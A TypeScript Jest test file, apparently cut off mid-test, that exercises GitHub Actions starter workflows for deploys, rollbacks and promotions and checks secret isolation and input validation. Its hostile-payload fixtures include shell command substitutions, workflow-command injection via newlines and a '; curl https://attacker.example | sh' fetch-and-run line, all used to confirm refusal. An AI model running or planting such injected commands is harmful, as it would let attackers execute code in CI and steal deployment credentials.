import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import {
  runActionBundle,
  serveRepository,
  startGitHubApi,
  type GitHubApiServer,
  type RepositoryModel,
} from '@dreamscape/testkit';
import {
  actionCalls,
  allJobs,
  allSteps,
  createArtifactStore,
  executeWorkflow,
  localRepositories,
  NO_PERMISSIONS,
  pullRequestEvent,
  pushEvent,
  repositoryDispatchEvent,
  workflowDispatchEvent,
  writeScopes,
  type ActionCall,
  type ActionResult,
  type ActionStandIn,
  type GitHubEvent,
  type JobRecord,
  type WorkflowRunRecord,
} from '../src/index.js';
import { root } from './support.js';

// The starter workflows run as a consumer's copies, in dreamscape/platform; the reusable workflows
// and actions they name (`dreamscape/actions/...@v1`, `$/...`) are this tree's.
const REPO = { fullName: 'dreamscape/platform', defaultBranch: 'main' } as const;
const hex = (seed: string): string => createHash('sha1').update(seed).digest('hex');
const SHA = {
  previous: hex('previous'),
  main: hex('main'),
  branch: hex('feature'),
  fork: hex('fork'),
  merge: hex('merge'),
  tag: hex('tag'),
} as const;
/** The pipeline run (a push to main) whose images a promotion deploys. */
const PUSH_RUN_ID = 1001;

const SECRETS = {
  PLAN_KUBECONFIG: 'plan-kubeconfig-S3CR3T-read-only',
  NPM_TOKEN: 'npm-S3CR3T-never-passed',
} as const;
const ENVIRONMENTS = Object.fromEntries(
  ['dev', 'staging', 'prod', 'production'].map((name) => [
    name,
    {
      secrets: { KUBECONFIG: `apiVersion: v1\nkind: Config\n# kubeconfig-S3CR3T-${name}\n` },
      deploymentBranches: ['main'],
    },
  ]),
);
const SECRET_VALUES = [
  ...Object.values(SECRETS),
  ...Object.values(ENVIRONMENTS).map((e) => e.secrets.KUBECONFIG),
];
const kubeconfigOf = (environment: string): string => ENVIRONMENTS[environment]?.secrets.KUBECONFIG ?? '';

const STARTERS = ['pipeline', 'deploy', 'rollback', 'single-service'] as const;
type Starter = (typeof STARTERS)[number];
const starterPath = (s: Starter): string => `.github/workflows/dreamscape-${s}.yml`;
const starterText = (s: Starter): string =>
  readFileSync(join(root, 'workflows', `dreamscape-${s}.yml`), 'utf8');

const SERVICES = ['gateway', 'auth'] as const;
const digestOf = (image: string): string => `sha256:${createHash('sha256').update(image).digest('hex')}`;
const pinned = (service: string): string =>
  `ghcr.io/dreamscape/${service}@${digestOf(`ghcr.io/dreamscape/${service}`)}`;

let api: GitHubApiServer;
let work: string;
const artifacts = createArtifactStore();
const executed: WorkflowRunRecord[] = [];
/** What action-deploy and action-rollback found at their `kubeconfig` path when called. */
const kubeconfigsSeen: { action: string; environment: string; content: string }[] = [];

/** The repository as the GitHub API describes it to action-changes. */
function repositoryModel(): RepositoryModel {
  const run = (over: Record<string, unknown>): Record<string, unknown> => ({
    id: PUSH_RUN_ID,
    name: 'pipeline',
    path: starterPath('pipeline'),
    workflow_id: 77,
    head_branch: 'main',
    head_sha: SHA.main,
    event: 'push',
    status: 'completed',
    conclusion: 'success',
    html_url: `https://github.com/${REPO.fullName}/actions/runs/${PUSH_RUN_ID}`,
    run_attempt: 1,
    repository: { full_name: REPO.fullName },
    head_repository: { full_name: REPO.fullName },
    ...over,
  });
  return {
    owner: 'dreamscape',
    repo: 'platform',
    defaultBranch: 'main',
    branches: {
      main: [SHA.previous, SHA.main],
      'feature/faster': [SHA.previous, SHA.main, SHA.branch],
      'pull/7/head': [SHA.fork],
    },
    tags: { 'v1.2.3': { commit: SHA.tag } },
    runs: {
      [PUSH_RUN_ID]: run({}),
      1002: run({ id: 1002, head_repository: { full_name: 'mallory/platform' }, head_sha: SHA.fork }),
      1003: run({ id: 1003, event: 'pull_request', head_branch: 'feature/faster', head_sha: SHA.branch }),
      1004: run({ id: 1004, path: '.github/workflows/other.yml' }),
      1005: run({ id: 1005, conclusion: 'failure' }),
      1006: run({ id: 1006, head_branch: 'v1.2.3', head_sha: SHA.tag }),
    },
    files: { [SHA.main]: { 'scripts/smoke-test.sh': 'file' } },
  };
}

const FILE_COMMANDS = ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STATE', 'GITHUB_STEP_SUMMARY'];

/**
 * action-changes' `promotion` and `deploy-check` modes run for real (its bundle), against the
 * GitHub API stand-in on 127.0.0.1: the refusals are the action's own. The step must pass the job's
 * own token; the API stand-in accepts one token, which replaces it.
 */
async function realActionChanges(call: ActionCall): Promise<ActionResult> {
  expect(call.with['github-token']).toBe(call.secrets.GITHUB_TOKEN);
  const env = Object.fromEntries(Object.entries(call.env).filter(([k]) => !FILE_COMMANDS.includes(k)));
  const result = await runActionBundle(join(root, 'action-changes'), {
    inputs: { ...call.with, 'github-token': api.token },
    env: { ...env, GITHUB_API_URL: api.url },
    cwd: call.workspace,
    timeoutMs: 30_000,
  });
  rmSync(result.dir, { recursive: true, force: true });
  return result.exitCode === 0
    ? { outputs: result.outputs, summary: result.summary }
    : { outcome: 'failure', error: result.errors.join('\n') || result.stderr };
}

/** action-changes' `changes` mode: every service of the services file, or the single service of `context`. */
function changesOutputs(call: ActionCall): ActionResult {
  const single = (call.with['services-file'] ?? '') === '';
  const names = single ? ['platform'] : [...SERVICES];
  const include = names.map((name) => ({
    name,
    context: single ? '.' : `services/${name}`,
    dockerfile: single ? 'Dockerfile' : `services/${name}/Dockerfile`,
    target: '',
    image: `ghcr.io/dreamscape/${name}`,
  }));
  return { outputs: { matrix: JSON.stringify({ include }), services: JSON.stringify(names), any: 'true' } };
}

function readKubeconfig(action: string, call: ActionCall): void {
  const path = call.with.kubeconfig ?? '';
  kubeconfigsSeen.push({
    action,
    environment: call.with.environment ?? '',
    content: existsSync(path) ? readFileSync(path, 'utf8') : '',
  });
}

/** The stand-ins of every action the workflows use. */
function standIns(over: Readonly<Record<string, ActionStandIn>> = {}): Record<string, ActionStandIn> {
  return {
    'actions/checkout': {},
    'actions/cache': {},
    'github/codeql-action/upload-sarif': {},
    'actions/upload-artifact': artifacts.upload,
    'actions/download-artifact': artifacts.download,
    'dreamscape/actions/action-changes': (call) => {
      const mode = call.with.mode || 'changes';
      if (mode === 'promotion' || mode === 'deploy-check') return realActionChanges(call);
      if (mode === 'comment')
        return { outputs: { 'comment-url': 'https://github.com/dreamscape/platform/pull/7#issuecomment-1' } };
      return changesOutputs(call);
    },
    'dreamscape/actions/action-build': (call) => {
      const image = call.with.image ?? '';
      const digest = digestOf(image);
      const record = { image: `${image}@${digest}`, digest, tags: [`${image}:sha-${SHA.main.slice(0, 7)}`] };
      return { outputs: { image, digest, tags: record.tags.join('\n'), metadata: JSON.stringify(record) } };
    },
    'dreamscape/actions/action-scan': (call) => {
      const sarif = call.with['sarif-file'] ?? '';
      if (sarif !== '') {
        mkdirSync(dirname(sarif), { recursive: true });
        writeFileSync(sarif, '{"version":"2.1.0","runs":[]}');
      }
      return {
        outputs: {
          verdict: 'pass',
          counts: '{}',
          'sarif-file': sarif,
          'verdict-attached': call.with['attach-verdict'] ?? '',
        },
      };
    },
    'dreamscape/actions/action-deploy': (call): ActionResult => {
      if (call.with.mode === 'plan')
        return { outputs: { plan: `### Plan of ${call.with.environment ?? ''}` } };
      readKubeconfig('action-deploy', call);
      const environment = call.with.environment ?? '';
      return {
        outputs: {
          result: 'promoted',
          revision: '7',
          'active-color': 'green',
          url: `https://${environment}.dreamscape.example`,
          release: '{}',
        },
      };
    },
    'dreamscape/actions/action-rollback': (call) => {
      readKubeconfig('action-rollback', call);
      return {
        outputs: { result: 'rolled-back', 'from-revision': '7', 'to-revision': '6', 'active-color': 'blue' },
      };
    },
    ...over,
  };
}

/** Runs a starter workflow for an event (the run's id given for the push whose images are promoted). */
async function run(
  starter: Starter,
  event: GitHubEvent,
  o: {
    actions?: Readonly<Record<string, ActionStandIn>>;
    runId?: number;
    /** A consumer's own workflow file run instead of the starter's. */
    workflow?: { readonly path: string; readonly content: string };
  } = {},
): Promise<WorkflowRunRecord> {
  const record = await executeWorkflow({
    workflow: o.workflow ?? { path: starterPath(starter), content: starterText(starter) },
    repository: REPO,
    event,
    resolver: localRepositories({ 'dreamscape/actions': root }),
    secrets: SECRETS,
    environments: ENVIRONMENTS,
    actions: standIns(o.actions),
    // A third-party action added later (a buildx setup, say) succeeds with no outputs; one of ours
    // must be stood in on purpose.
    defaultAction: (call) =>
      call.action.startsWith('dreamscape/actions/')
        ? { outcome: 'failure', error: `no stand-in for ${call.action}` }
        : {},
    // curl for the smoke tests; docker for a step that sets up buildx. Neither may push or log in
    // (checked below): images leave a job through action-build only.
    tools: { curl: {}, docker: {} },
    workDir: mkdtempSync(join(work, 'run-')),
    ...(o.runId === undefined ? {} : { runId: o.runId }),
  });
  executed.push(record);
  return record;
}

const pushMain = (): GitHubEvent =>
  pushEvent(REPO, { ref: 'refs/heads/main', sha: SHA.main, before: SHA.previous });
const forkPullRequest = (): GitHubEvent =>
  pullRequestEvent(REPO, {
    number: 7,
    headRepository: 'mallory/platform',
    headRef: 'main',
    headSha: SHA.fork,
    mergeSha: SHA.merge,
  });
const branchPullRequest = (): GitHubEvent =>
  pullRequestEvent(REPO, {
    number: 8,
    headRepository: REPO.fullName,
    headRef: 'feature/faster',
    headSha: SHA.branch,
    mergeSha: SHA.merge,
  });
const tagPush = (): GitHubEvent => pushEvent(REPO, { ref: 'refs/tags/v1.2.3', sha: SHA.tag });
const dispatch = (starter: Starter, inputs: Record<string, unknown>, ref?: string): GitHubEvent =>
  workflowDispatchEvent(REPO, {
    sha: SHA.main,
    inputs,
    workflow: starterPath(starter),
    ...(ref === undefined ? {} : { ref }),
  });
const alert = (clientPayload: unknown): GitHubEvent =>
  repositoryDispatchEvent(REPO, { action: 'rollback', clientPayload, sha: SHA.main });

/** The dispatch form a person fills in, per starter. */
const FORMS: Readonly<Record<Starter, Record<string, unknown>>> = {
  pipeline: { environment: 'staging', 'run-id': String(PUSH_RUN_ID) },
  deploy: { environment: 'prod', images: `gateway=${pinned('gateway')}` },
  rollback: { environment: 'prod', reason: 'error budget spent' },
  'single-service': {},
};

/** A shell command that would leave this file behind if any payload text were run as code. */
let marker: string;
const hostilePayload = (): Record<string, unknown> => ({
  environment: `prod$(touch ${marker})\n::set-output name=environment::prod\n::add-mask::prod`,
  app: '`touch ' + marker + '`',
  revision: '; curl https://attacker.example | sh',
  reason: `x${'A'.repeat(100_000)}\n::error::forged`,
});

/** The events every starter workflow is run for, in this order (the push first: it makes the artifact promoted later). */
const EVENTS: readonly {
  readonly name: string;
  readonly event: (s: Starter) => GitHubEvent;
  readonly runId?: Starter;
}[] = [
  { name: 'push to main', event: () => pushMain(), runId: 'pipeline' },
  { name: 'pull request from a fork', event: () => forkPullRequest() },
  { name: 'pull request from a branch', event: () => branchPullRequest() },
  { name: 'tag push v1.2.3', event: () => tagPush() },
  { name: 'workflow_dispatch with inputs', event: (s) => dispatch(s, FORMS[s]) },
  { name: 'workflow_dispatch without inputs', event: (s) => dispatch(s, {}) },
  { name: 'repository_dispatch, hostile payload', event: () => alert(hostilePayload()) },
  {
    name: 'repository_dispatch, valid payload',
    event: () => alert({ environment: 'prod', reason: 'p99 above 2s' }),
  },
];

const matrix = new Map<string, WorkflowRunRecord>();
const at = (event: string, starter: Starter): WorkflowRunRecord => {
  const found = matrix.get(`${event}|${starter}`);
  if (found === undefined) throw new Error(`no run of ${starter} for ${event}`);
  return found;
};

// 32 runs one after the other, some with action-changes' real bundle in a child process: about 30 s
// on a loaded 2-core machine, too close to jest's 60 s for a hook. The limit is a safety net only.
beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'ds-workflow-runs-'));
  marker = join(work, 'payload-ran-as-code');
  api = await startGitHubApi();
  serveRepository(api, repositoryModel());
  for (const e of EVENTS)
    for (const s of STARTERS)
      matrix.set(`${e.name}|${s}`, await run(s, e.event(s), e.runId === s ? { runId: PUSH_RUN_ID } : {}));
}, 300_000);

afterAll(async () => {
  await api.close();
  rmSync(work, { recursive: true, force: true });
  const ran = executed.filter((r) => r.status === 'ran');
  const jobs = ran
    .flatMap((r) => allJobs(r))
    .filter((j) => j.kind === 'steps' && (j.result === 'success' || j.result === 'failure'));
  const steps = ran.flatMap((r) => allSteps(r)).filter(({ step }) => step.outcome !== 'skipped');
  console.log(
    `workflow-runs: events=${EVENTS.length} workflows=${STARTERS.length} runs=${ran.length} jobs_run=${jobs.length} ` +
      `steps_run=${steps.length} run_scripts=${steps.filter(({ step }) => step.run !== undefined).length} ` +
      `actions_recorded=${ran.flatMap((r) => actionCalls(r)).length}`,
  );
});

/**
 * Every text a run put in front of its steps: inputs of called workflows, step env, action inputs
 * and environments, the whole environment of scripts, outputs. (A job's `secrets` context, what it
 * could name, is checked apart.)
 */
function visibleTexts(r: WorkflowRunRecord): { where: string; text: string }[] {
  const out: { where: string; text: string }[] = [];
  for (const job of allJobs(r)) {
    for (const [k, v] of Object.entries(job.outputs))
      out.push({ where: `${job.path} outputs.${k}`, text: v });
    for (const [k, v] of Object.entries(job.inputs ?? {}))
      out.push({ where: `${job.path} inputs.${k}`, text: String(v) });
    for (const step of job.steps) {
      const where = `${job.path} ${step.name}`;
      for (const [k, v] of Object.entries(step.env)) out.push({ where: `${where} env.${k}`, text: v });
      for (const [k, v] of Object.entries(step.action?.with ?? {}))
        out.push({ where: `${where} with.${k}`, text: v });
      for (const [k, v] of Object.entries(step.action?.env ?? {}))
        out.push({ where: `${where} action env ${k}`, text: v });
      for (const [k, v] of Object.entries(step.run?.environment ?? {}))
        out.push({ where: `${where} process env ${k}`, text: v });
      for (const [k, v] of Object.entries(step.outputs))
        out.push({ where: `${where} outputs.${k}`, text: v });
    }
  }
  return out;
}

const secretsIn = (r: WorkflowRunRecord): string[] =>
  visibleTexts(r).flatMap(({ where, text }) =>
    SECRET_VALUES.filter((s) => text.includes(s) || text.includes(s.trim().split('\n').at(-1) ?? s)).map(
      () => where,
    ),
  );

const calls = (r: WorkflowRunRecord, action: string): ActionCall[] =>
  actionCalls(r).filter((c) => c.action === `dreamscape/actions/${action}`);
const ranJobs = (r: WorkflowRunRecord): JobRecord[] =>
  allJobs(r).filter((j) => j.kind === 'steps' && j.result !== 'skipped' && j.result !== 'cancelled');
const environmentsOf = (r: WorkflowRunRecord): string[] =>
  ranJobs(r).flatMap((j) => (j.environment === undefined ? [] : [j.environment.name]));

describe('every starter workflow, for every kind of event', () => {
  it('no run step ever reached a network tool the test did not stand in for, and no payload text ran as code', () => {
    const forbidden = executed.flatMap((r) =>
      allSteps(r).flatMap(({ job, step }) =>
        step.toolCalls.filter((c) => !c.allowed).map((c) => `${job.path}: ${c.tool} ${c.argv.join(' ')}`),
      ),
    );
    expect(forbidden).toEqual([]);
    const pushes = executed.flatMap((r) =>
      allSteps(r).flatMap(({ job, step }) =>
        step.toolCalls
          .filter((c) => c.tool === 'docker' && c.argv.some((a) => a === 'push' || a === 'login'))
          .map((c) => `${job.path}: docker ${c.argv.join(' ')}`),
      ),
    );
    expect(pushes).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });

  it('a pull request from a fork sees no secret, gets no write token, and pushes nothing', () => {
    for (const s of STARTERS) {
      const r = at('pull request from a fork', s);
      expect([s, secretsIn(r)]).toEqual([s, []]);
      for (const job of ranJobs(r)) {
        expect([job.path, writeScopes(job.permissions)]).toEqual([job.path, []]);
        expect([job.path, Object.keys(job.secrets)]).toEqual([job.path, ['GITHUB_TOKEN']]);
      }
    }
    const pipeline = at('pull request from a fork', 'pipeline');
    const single = at('pull request from a fork', 'single-service');
    for (const r of [pipeline, single]) {
      expect(r.status).toBe('ran');
      const builds = calls(r, 'action-build');
      const names = r === single ? ['platform'] : [...SERVICES];
      expect(builds.map((c) => c.with.image).sort()).toEqual(
        names.map((n) => `localhost:5000/dreamscape/${n}`).sort(),
      );
      for (const build of builds) expect([build.with.password, build.with.secrets]).toEqual(['', '']);
      for (const scan of calls(r, 'action-scan'))
        expect([scan.with['registry-password'], scan.with['attach-verdict']]).toEqual(['', 'false']);
      // The job's own registry is started: the image never leaves the job.
      for (const job of allJobs(r).filter((j) => j.id === 'build' && j.kind === 'steps'))
        expect(JSON.stringify(job.services)).toContain('registry:2.8.3');
      expect(calls(r, 'action-deploy').filter((c) => c.with.mode !== 'plan')).toEqual([]);
      expect(environmentsOf(r)).toEqual([]);
      // No code-scanning upload with a fork's read-only token.
      expect(
        allJobs(r)
          .filter((j) => j.id === 'sarif')
          .map((j) => j.result),
      ).toEqual(['skipped']);
    }
    // pr-checks forces push 'false' on build-scan, whatever the event.
    expect(allJobs(pipeline).find((j) => j.path === 'checks/build-scan')?.inputs?.push).toBe('false');
    // Every overlay is planned without cluster credentials: a fork gets no secret.
    const plans = calls(pipeline, 'action-deploy').filter((c) => c.with.mode === 'plan');
    expect(plans.map((c) => c.with.environment)).toEqual(['dev', 'staging', 'prod']);
    for (const plan of plans) expect(plan.with.kubeconfig).toBe('');
  });

  it('a pull request from a branch plans with the read-only kubeconfig, with the token as granted, and still pushes nothing', () => {
    const r = at('pull request from a branch', 'pipeline');
    const plans = calls(r, 'action-deploy').filter((c) => c.with.mode === 'plan');
    expect(plans.map((c) => c.with.environment)).toEqual(['dev', 'staging', 'prod']);
    for (const plan of plans) {
      const job = allJobs(r).find(
        (j) => j.path === plan.job && j.matrix?.environment === plan.with.environment,
      );
      expect(job?.secrets.KUBECONFIG).toBe(SECRETS.PLAN_KUBECONFIG);
      expect(writeScopes(job?.permissions ?? NO_PERMISSIONS)).toEqual(['pull-requests']);
      // The read-only kubeconfig, in a file of the job's temp folder (gone with the job).
      expect(plan.with.kubeconfig).toMatch(/^\/.+/);
    }
    const build = allJobs(r).filter((j) => j.path === 'checks/build-scan/build');
    expect(build.map((j) => writeScopes(j.permissions))).toEqual([
      ['packages', 'pull-requests'],
      ['packages', 'pull-requests'],
    ]);
    for (const c of calls(r, 'action-build'))
      expect([(c.with.image ?? '').startsWith('localhost:5000/'), c.with.password]).toEqual([true, '']);
    // The other secrets of the repository reach no job: pr-checks passes KUBECONFIG alone.
    expect(visibleTexts(r).filter(({ text }) => text.includes(SECRETS.NPM_TOKEN))).toEqual([]);
    expect(
      allJobs(r)
        .filter((j) => j.id === 'sarif')
        .map((j) => j.result),
    ).toEqual(['success']);
    expect(environmentsOf(r)).toEqual([]);
  });

  it('a push to main builds, scans, pushes and deploys to dev only', () => {
    for (const s of ['pipeline', 'single-service'] as const) {
      const r = at('push to main', s);
      expect([s, r.status, r.conclusion]).toEqual([s, 'ran', 'success']);
      const builds = calls(r, 'action-build');
      expect(builds.map((c) => c.with.image).sort()).toEqual(
        s === 'pipeline'
          ? SERVICES.map((x) => `ghcr.io/dreamscape/${x}`).sort()
          : ['ghcr.io/dreamscape/platform'],
      );
      for (const build of builds) {
        const job = allJobs(r).find((j) => j.path === build.job && j.matrix?.name === build.matrix?.name);
        // Pushed with the build job's own token, which alone may write packages.
        expect(build.with.password).toBe(job?.token);
        expect(writeScopes(job?.permissions ?? NO_PERMISSIONS)).toContain('packages');
      }
      for (const scan of calls(r, 'action-scan')) expect(scan.with['attach-verdict']).toBe('true');
    }
    const pipeline = at('push to main', 'pipeline');
    expect(environmentsOf(pipeline)).toEqual(['dev']);
    const deploy = calls(pipeline, 'action-deploy');
    expect(deploy.map((c) => [c.with.environment, c.with['require-scan']])).toEqual([['dev', 'false']]);
    expect(JSON.parse(deploy[0]?.with.images ?? '{}')).toEqual(
      Object.fromEntries(SERVICES.map((x) => [x, expect.objectContaining({ image: pinned(x) })])),
    );
    expect(kubeconfigsSeen.filter((k) => k.environment === 'dev').map((k) => k.content.trimEnd())).toContain(
      kubeconfigOf('dev').trimEnd(),
    );
    // The smoke test ran, against the URL action-deploy reported; the credentials were removed.
    const smoke = allSteps(pipeline).find(({ step }) => step.name === 'Smoke tests')?.step;
    expect(smoke?.toolCalls.map((c) => c.argv.at(-1))).toEqual(['https://dev.dreamscape.example/health']);
    const deployJob = allJobs(pipeline).find((j) => j.path === 'deploy-dev/deploy');
    expect(deployJob?.steps.at(-1)?.outcome).toBe('success');
    expect(
      existsSync(
        join(
          deployJob?.steps.find((st) => st.action?.action === 'dreamscape/actions/action-deploy')?.action
            ?.runnerTemp ?? '/nonexistent',
          'kubeconfig',
        ),
      ),
    ).toBe(false);
    expect(environmentsOf(at('push to main', 'single-service'))).toEqual(['production']);
  });

  it('a tag push starts none of the starter workflows', () => {
    for (const s of STARTERS) expect([s, at('tag push v1.2.3', s).status]).toEqual([s, 'not-triggered']);
  });

  it('a dispatch without the required inputs is refused by GitHub before anything runs', () => {
    for (const s of ['pipeline', 'deploy', 'rollback'] as const) {
      const r = at('workflow_dispatch without inputs', s);
      expect([s, r.status, r.reason]).toEqual([
        s,
        'refused',
        expect.stringMatching(/^Required input '[a-z-]+' not provided$/),
      ]);
    }
    expect(at('workflow_dispatch without inputs', 'single-service').status).toBe('not-triggered');
  });
});

describe('the rollback dispatch (repository_dispatch from an alerting system)', () => {
  /** The `run:` step that checks the parameters, and the job that holds the kubeconfig. */
  const parts = (
    r: WorkflowRunRecord,
  ): { check: ReturnType<typeof allSteps>[number]['step'] | undefined; rollback: JobRecord | undefined } => ({
    check: allSteps(r).find(({ job, step }) => job.path === 'rollback/parameters' && step.id === 'check')
      ?.step,
    rollback: allJobs(r).find((j) => j.path === 'rollback/rollback'),
  });

  it.each([
    [
      'a command substitution and a forged output in the environment',
      { environment: '$(touch MARKER)', reason: 'x' },
      /environment must be a lowercase name such as prod, got '\$\(touch /,
    ],
    [
      'newlines smuggling workflow commands',
      { environment: 'prod\n::set-output name=environment::prod\n::add-mask::prod' },
      /environment must be a lowercase name such as prod, got 'prod ::set-output name=environment::prod ::add-mask::prod'$/,
    ],
    [
      'shell metacharacters in the revision',
      { environment: 'prod', revision: '1; curl https://attacker.example | sh' },
      /revision must be previous or a revision number, got '1; curl/,
    ],
    [
      'backquotes in the app',
      { environment: 'prod', app: '`touch MARKER`' },
      /app must be a lowercase name or all, got '`touch /,
    ],
    [
      'a huge namespace',
      { environment: 'prod', namespace: 'n'.repeat(100_000) },
      /namespace must be a Kubernetes name, got 'n{80}'$/,
    ],
    [
      'a number where a name goes',
      { environment: 7e300 },
      /environment must be a lowercase name such as prod, got '7/,
    ],
    [
      'an environment the caller does not list (GitHub would create it unprotected)',
      { environment: 'qa' },
      /environment 'qa' is not one this workflow may roll back \(dev, staging, prod\); add it to the environments input of the calling workflow$/,
    ],
    [
      'a number that reads as a name',
      { environment: 12 },
      /environment '12' is not one this workflow may roll back/,
    ],
    [
      'a boolean that reads as a name',
      { environment: true },
      /environment 'true' is not one this workflow may roll back/,
    ],
    [
      'a listed name inside a longer one',
      { environment: 'prod-eu' },
      /environment 'prod-eu' is not one this workflow may roll back/,
    ],
  ])(
    '%s: the check step fails with its message, and no action runs after it',
    async (_name, payload, message) => {
      const text = JSON.parse(JSON.stringify(payload).split('MARKER').join(marker)) as Record<
        string,
        unknown
      >;
      const seen = kubeconfigsSeen.length;
      const r = await run('rollback', alert(text));
      const { check, rollback } = parts(r);
      expect(check?.run?.exitCode).toBe(1);
      const errors = check?.commands.filter((c) => c.command === 'error').map((c) => c.data) ?? [];
      expect(errors).toEqual([expect.stringMatching(message)]);
      // The refused value is shown, but never as a workflow command of its own.
      expect(check?.commands.map((c) => c.command)).toEqual(['error']);
      expect(rollback?.result).toBe('skipped');
      expect(actionCalls(r)).toEqual([]);
      expect(kubeconfigsSeen.length).toBe(seen);
      expect(secretsIn(r)).toEqual([]);
      expect(existsSync(marker)).toBe(false);
    },
  );

  it('refuses a payload value that is not text before any job starts (a list where a name goes)', async () => {
    const r = await run('rollback', alert({ environment: ['prod'], reason: 'x' }));
    expect(allJobs(r).map((j) => [j.path, j.result])).toEqual([['rollback', 'failure']]);
    expect(allJobs(r)[0]?.error).toMatch(/input environment is a string, got \["prod"\]/);
    expect(actionCalls(r)).toEqual([]);
  });

  it('a valid payload proceeds: the rollback job runs in its environment with its kubeconfig, the reason on one bounded line', async () => {
    const before = kubeconfigsSeen.length;
    const r = await run(
      'rollback',
      alert({
        environment: 'prod',
        revision: 3,
        reason: `p99 above 2s\n::error::forged\n${'x'.repeat(2000)}`,
      }),
    );
    const { check, rollback } = parts(r);
    expect(check?.outcome).toBe('success');
    expect(check?.commands.filter((c) => c.command === 'error')).toEqual([]);
    expect(rollback?.result).toBe('success');
    expect(rollback?.environment?.name).toBe('prod');
    expect(rollback?.secrets.KUBECONFIG).toBe(kubeconfigOf('prod'));
    const [call] = calls(r, 'action-rollback');
    expect(call?.with).toMatchObject({ environment: 'prod', to: '3', app: '', namespace: '' });
    expect(call?.with.reason).toMatch(/^p99 above 2s ::error::forged x+$/);
    expect(call?.with.reason).toHaveLength(500);
    expect(kubeconfigsSeen.slice(before).map((k) => [k.action, k.content.trimEnd()])).toEqual([
      ['action-rollback', kubeconfigOf('prod').trimEnd()],
    ]);
    // The parameters job holds no secret and no token scope.
    const parameters = allJobs(r).find((j) => j.path === 'rollback/parameters');
    expect([parameters?.secrets, writeScopes(parameters?.permissions ?? NO_PERMISSIONS)]).toEqual([
      { GITHUB_TOKEN: parameters?.token },
      [],
    ]);
  });

  it('the hostile payload of the event matrix stopped at the check, and the valid one reached action-rollback', () => {
    expect(parts(at('repository_dispatch, hostile payload', 'rollback')).rollback?.result).toBe('skipped');
    expect(actionCalls(at('repository_dispatch, hostile payload', 'rollback'))).toEqual([]);
    expect(
      calls(at('repository_dispatch, valid payload', 'rollback'), 'action-rollback').map(
        (c) => c.with.environment,
      ),
    ).toEqual(['prod']);
    for (const s of ['pipeline', 'deploy', 'single-service'] as const)
      expect(at('repository_dispatch, hostile payload', s).status).toBe('not-triggered');
  });
});

describe('promotion (the pipeline dispatched with an environment and a run id)', () => {
  const promote = (
    runId: number | string,
    actions?: Record<string, ActionStandIn>,
  ): Promise<WorkflowRunRecord> =>
    run(
      'pipeline',
      dispatch('pipeline', { environment: 'staging', 'run-id': String(runId) }),
      actions === undefined ? {} : { actions },
    );
  const check = (r: WorkflowRunRecord): JobRecord | undefined =>
    allJobs(r).find((j) => j.path === 'promotion');

  it('the check job holds no environment and no secret; the environment job runs only after it, with the images of the run', () => {
    const r = at('workflow_dispatch with inputs', 'pipeline');
    const promotion = check(r);
    expect(promotion?.result).toBe('success');
    expect(promotion?.environment).toBe(undefined);
    expect(secretsIn({ ...r, jobs: promotion === undefined ? [] : [promotion] })).toEqual([]);
    expect(promotion?.permissions).toMatchObject({ actions: 'read', contents: 'read' });
    expect(writeScopes(promotion?.permissions ?? NO_PERMISSIONS)).toEqual([]);
    const [changes] = calls(r, 'action-changes').filter((c) => c.with.mode === 'promotion');
    expect(changes?.with).toMatchObject({ 'run-id': String(PUSH_RUN_ID), environment: 'staging' });
    expect(environmentsOf(r)).toEqual(['staging']);
    const [deploy] = calls(r, 'action-deploy');
    expect(deploy?.with.environment).toBe('staging');
    expect(deploy?.with['require-scan']).toBe('true');
    // The records the push run built and uploaded, checked by action-changes, are what is deployed.
    expect(Object.keys(JSON.parse(deploy?.with.images ?? '{}') as object).sort()).toEqual(
      [...SERVICES].sort(),
    );
    const checkout = allSteps(r).find(
      ({ job, step }) => job.path === 'promote/deploy' && step.action?.action === 'actions/checkout',
    )?.step;
    expect(checkout?.action?.with.ref).toBe(SHA.main);
  });

  it.each([
    [
      1002,
      /"head_repository.full_name" is "mallory\/platform": its commit comes from another repository, a fork/,
    ],
    [1003, /"event" is "pull_request" \(accepted: push\)/],
    [1004, /"path" is "\.github\/workflows\/other\.yml", another workflow/],
    [1005, /"conclusion" is "failure" \(accepted: success\)/],
    [1006, /"head_branch" is "v1\.2\.3", not the default branch main/],
    [9999, /has no run 9999/],
  ])(
    'run %s is refused by action-changes in the promotion job, and nothing holding the kubeconfig runs',
    async (runId, message) => {
      artifacts.add(String(runId), 'dreamscape-records', {
        'records.json': JSON.stringify({ gateway: { image: pinned('gateway') } }),
      });
      const r = await promote(runId);
      const step = allSteps(r).find(
        ({ job, step: st }) => job.path === 'promotion' && st.id === 'check',
      )?.step;
      expect(step?.outcome).toBe('failure');
      expect(step?.error).toMatch(message);
      expect(check(r)?.result).toBe('failure');
      expect(allJobs(r).find((j) => j.path === 'promote')?.result).toBe('skipped');
      expect(environmentsOf(r)).toEqual([]);
      expect(calls(r, 'action-deploy')).toEqual([]);
      expect(secretsIn(r)).toEqual([]);
    },
  );

  it('refuses a records artifact holding anything but service names and pinned images', async () => {
    artifacts.add('1010', 'dreamscape-records', {
      'records.json': JSON.stringify({ gateway: { image: 'ghcr.io/dreamscape/gateway:latest' } }),
    });
    const r = await promote(1010);
    expect(check(r)?.result).toBe('failure');
    expect(allJobs(r).find((j) => j.path === 'promote')?.result).toBe('skipped');
    expect(environmentsOf(r)).toEqual([]);
  });

  it("a failing check (action-changes' outcome recorded as failure) keeps the environment job from running", async () => {
    const r = await promote(PUSH_RUN_ID, {
      'dreamscape/actions/action-changes': { outcome: 'failure', error: 'refused' },
    });
    expect(check(r)?.result).toBe('failure');
    expect(
      allJobs(r)
        .filter((j) => j.path.startsWith('promote'))
        .map((j) => [j.path, j.result]),
    ).toEqual([['promote', 'skipped']]);
    expect(environmentsOf(r)).toEqual([]);
    expect(secretsIn(r)).toEqual([]);
  });
});

describe('a deploy by hand (dreamscape-deploy.yml)', () => {
  const deploy = (inputs: Record<string, unknown>, ref?: string): Promise<WorkflowRunRecord> =>
    run('deploy', dispatch('deploy', { ...FORMS.deploy, ...inputs }, ref));

  it('runs the check without secrets, then the deploy job in the environment on the commit the check accepted', () => {
    const r = at('workflow_dispatch with inputs', 'deploy');
